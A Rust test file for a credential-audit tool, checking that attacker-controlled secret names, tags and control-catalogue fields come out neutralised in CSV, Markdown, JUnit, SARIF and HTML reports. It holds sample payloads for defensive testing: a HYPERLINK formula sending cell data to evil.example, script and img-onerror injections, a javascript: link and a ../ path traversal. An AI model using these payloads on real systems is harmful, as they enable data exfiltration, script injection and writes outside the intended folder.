//! Security invariants that no other test file proves end to end (SECURITY.md maps every
//! invariant to its test):
//! - a string from AWS (here a secret's name and a tag value in a hostile export) is neutralised
//!   in every CSV, escaped in `summary.md`, data (never markup) in `junit.xml` and
//!   `findings.sarif`, and never used as a path;
//! - a control catalogue given with `--controls-dir` cannot inject into the report: its
//!   framework name and version, control ids, titles and reasons are inert in the HTML page (in
//!   headless Chromium), in CSV, Markdown, SARIF and JUnit.

#[path = "support/chromium.rs"]
mod chromium;
mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use common::*;
use serde_json::Value;

/// A string that is a spreadsheet formula, HTML with script, Markdown with a link and a table
/// break, an XML section end, and a path out of any folder, all at once.
const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\") <script>document.title='PWNED'</script> | **b** [l](javascript:alert(1)) ]]> ../../../../tmp/credaudit-escape";

/// Planted in a control catalogue: markup that would mark the page if it ran.
const CONTROL_HTML: &str =
    "<img src=x onerror=\"document.body.setAttribute('data-pwned','control')\">";

/// Characters a spreadsheet may start a formula with.
fn starts_formula(cell: &str) -> bool {
    cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}')
        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || cell.starts_with(|c: char| c.is_control())
}

/// Every cell of every CSV in `bundle`; asserts none could run as a formula.
fn assert_csv_neutralised(bundle: &Path) -> Vec<String> {
    let mut cells = Vec::new();
    for entry in std::fs::read_dir(bundle).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(&path)
            .unwrap();
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !starts_formula(cell),
                    "{}: a cell a spreadsheet would evaluate: {cell:?}",
                    path.display()
                );
                cells.push(cell.to_string());
            }
        }
    }
    cells
}

/// Whether `raw` occurs in `markdown` other than right after a backslash (Markdown's escape).
fn unescaped(markdown: &str, raw: &str) -> bool {
    markdown
        .match_indices(raw)
        .any(|(at, _)| !markdown[..at].ends_with('\\'))
}

/// Every text and attribute value of `junit.xml` (which must parse), and asserts the document
/// has only JUnit's elements.
fn junit_texts(bundle: &Path) -> Vec<String> {
    let xml = std::fs::read_to_string(bundle.join("junit.xml")).unwrap();
    let doc = roxmltree::Document::parse(&xml).expect("junit.xml is well-formed XML");
    let mut texts = Vec::new();
    for node in doc.descendants() {
        if node.is_element() {
            let name = node.tag_name().name();
            assert!(
                [
                    "testsuites",
                    "testsuite",
                    "testcase",
                    "failure",
                    "skipped",
                    "properties",
                    "property",
                    "system-out"
                ]
                .contains(&name),
                "an element no JUnit writer makes: <{name}>"
            );
            texts.extend(node.attributes().map(|a| a.value().to_string()));
        }
        if let Some(text) = node.text() {
            texts.push(text.to_string());
        }
    }
    texts
}

/// Every string in `findings.sarif` (which must parse as JSON).
fn sarif_strings(bundle: &Path) -> Vec<String> {
    fn walk(value: &Value, out: &mut Vec<String>) {
        match value {
            Value::String(s) => out.push(s.clone()),
            Value::Array(items) => items.iter().for_each(|v| walk(v, out)),
            Value::Object(map) => map.values().for_each(|v| walk(v, out)),
            _ => {}
        }
    }
    let sarif: Value =
        serde_json::from_slice(&std::fs::read(bundle.join("findings.sarif")).unwrap())
            .expect("findings.sarif is JSON");
    let mut out = Vec::new();
    walk(&sarif, &mut out);
    out
}

/// Relative paths of every file below `dir`.
fn tree(dir: &Path) -> BTreeSet<String> {
    fn walk(dir: &Path, base: &Path, out: &mut BTreeSet<String>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                walk(&path, base, out);
            } else {
                out.insert(path.strip_prefix(base).unwrap().display().to_string());
            }
        }
    }
    let mut out = BTreeSet::new();
    walk(dir, dir, &mut out);
    out
}

/// The demo fleet with one more secret, undeclared (so it is a finding), named [`HOSTILE`] and
/// tagged with it.
fn hostile_fleet(dir: &Path) -> PathBuf {
    let fleet = dir.join("fleet");
    copy_dir(&repo("fixtures/demo-fleet"), &fleet);
    let path = fleet.join("aws/111122223333/secretsmanager/us-east-1/list-secrets.json");
    let mut doc: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    doc["SecretList"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({
            "ARN": "arn:aws:secretsmanager:us-east-1:111122223333:secret:hostile-AbCdEf",
            "Name": HOSTILE,
            "CreatedDate": "2026-01-05T00:00:00Z",
            "Tags": [{"Key": "owner", "Value": HOSTILE}, {"Key": HOSTILE, "Value": "x"}]
        }));
    std::fs::write(&path, serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
    fleet
}

#[test]
fn aws_strings_are_neutralised_in_csv_markdown_junit_and_sarif_and_never_a_path() {
    let dir = tempfile::tempdir().unwrap();
    let fleet = hostile_fleet(dir.path());
    let db = dir.path().join("snapshot.db");
    let out = dir.path().join("bundle");
    let before_outside = tree(dir.path());
    let (code, _, stderr) = scan(&fleet, &db, Some(&out), &[]);
    assert_eq!(code, 0, "{stderr}");

    // The secret is a finding, so its name reaches every report.
    let findings: Value =
        serde_json::from_slice(&std::fs::read(out.join("findings.json")).unwrap()).unwrap();
    assert!(
        findings["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["principal"] == HOSTILE),
        "the hostile secret is a finding"
    );

    // CSV: never a formula; the name is there, prefixed with `'`.
    let cells = assert_csv_neutralised(&out);
    assert!(
        cells.iter().any(|c| *c == format!("'{HOSTILE}")),
        "the name is in a CSV, neutralised"
    );

    // Markdown: the name's markup is escaped wherever it appears.
    let summary = std::fs::read_to_string(out.join("summary.md")).unwrap();
    for raw in ["<script>", "[l](javascript", "**b**"] {
        assert!(
            !unescaped(&summary, raw),
            "summary.md holds {raw:?} unescaped"
        );
    }

    // JUnit and SARIF: well-formed, the name only ever as data.
    let junit = junit_texts(&out);
    assert!(!junit.is_empty());
    let sarif = sarif_strings(&out);
    assert!(
        sarif.iter().any(|s| s.contains(HOSTILE)),
        "the name is in findings.sarif as a string"
    );

    // Never a path: the bundle holds exactly the files of an intact fleet's bundle, and nothing
    // was written beside it or where the name points.
    let intact = tempfile::tempdir().unwrap();
    let intact_out = intact.path().join("bundle");
    let (code, _, stderr) = scan(
        &repo("fixtures/demo-fleet"),
        &intact.path().join("s.db"),
        Some(&intact_out),
        &["--quiet"],
    );
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(tree(&out), tree(&intact_out));
    let after_outside: BTreeSet<String> = tree(dir.path())
        .into_iter()
        .filter(|p| !p.starts_with("bundle/"))
        .collect();
    let mut expected = before_outside.clone();
    expected.insert("snapshot.db".into());
    assert_eq!(after_outside, expected);
    assert!(!Path::new("/tmp/credaudit-escape").exists());
}

/// A catalogue whose every free-text field carries a payload.
fn hostile_catalogue(dir: &Path) -> PathBuf {
    let controls = dir.join("controls");
    std::fs::create_dir_all(&controls).unwrap();
    let toml_string = |s: &str| toml::Value::String(s.to_string()).to_string();
    let text = format!(
        "[framework]\nid = \"hostile\"\nname = {name}\nversion = {version}\n\n\
         [[controls]]\nid = {id}\ntitle = {title}\nreason = {reason}\nrules = [\"rotation-overdue\"]\n",
        name = toml_string(&format!("{CONTROL_HTML}{HOSTILE}")),
        version = toml_string("=1+1 <script>document.title='PWNED'</script>"),
        id = toml_string(&format!("=CTRL-1{CONTROL_HTML}")),
        title = toml_string(&format!("@SUM(A1) {CONTROL_HTML} {HOSTILE}")),
        reason = toml_string(&format!("-1 ]]><evil/> {CONTROL_HTML} | # heading")),
    );
    std::fs::write(controls.join("hostile.toml"), text).unwrap();
    controls
}

#[test]
fn a_control_catalogue_cannot_inject_into_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let controls = hostile_catalogue(dir.path());
    let out = dir.path().join("bundle");
    let (code, _, stderr) = scan(
        &repo("fixtures/demo-fleet"),
        &dir.path().join("snapshot.db"),
        Some(&out),
        &["--controls-dir", controls.to_str().unwrap()],
    );
    assert_eq!(code, 0, "{stderr}");

    // The catalogue was used: its control is in controls.csv, failing.
    let cells = assert_csv_neutralised(&out);
    assert!(
        cells
            .iter()
            .any(|c| *c == format!("'@SUM(A1) {CONTROL_HTML} {HOSTILE}")),
        "the control's title is in controls.csv, neutralised"
    );

    // HTML, in a real browser: nothing ran, nothing was injected, the title shows as text.
    let page = chromium::load(&out.join("index.html"), "");
    assert!(
        !page.body_tag().contains("data-pwned"),
        "a payload ran: {}",
        page.body_tag()
    );
    assert!(
        !page.title().contains("PWNED"),
        "a payload ran: {}",
        page.title()
    );
    assert!(
        !page.dom.contains("<img src=\"x\""),
        "an img element was injected"
    );
    assert!(!page.dom.contains("<evil"), "an element was injected");
    assert!(
        page.dom.contains("&lt;img src=x onerror="),
        "the control's markup shows as text"
    );

    // Markdown: escaped.
    let summary = std::fs::read_to_string(out.join("summary.md")).unwrap();
    for raw in ["<img", "<script>", "<evil", "[l](javascript", "**b**"] {
        assert!(
            !unescaped(&summary, raw),
            "summary.md holds {raw:?} unescaped"
        );
    }
    assert!(
        summary.contains(r"\<img src=x onerror="),
        "the markup shows, escaped"
    );

    // JUnit: the control is a test case whose name and message hold the strings as data.
    let junit = junit_texts(&out);
    assert!(
        junit
            .iter()
            .any(|t| t.contains(&format!("=CTRL-1{CONTROL_HTML}"))),
        "the control id is in junit.xml as data: {junit:?}"
    );
    // SARIF: well-formed JSON; whatever of the catalogue it carries is a string.
    sarif_strings(&out);
}
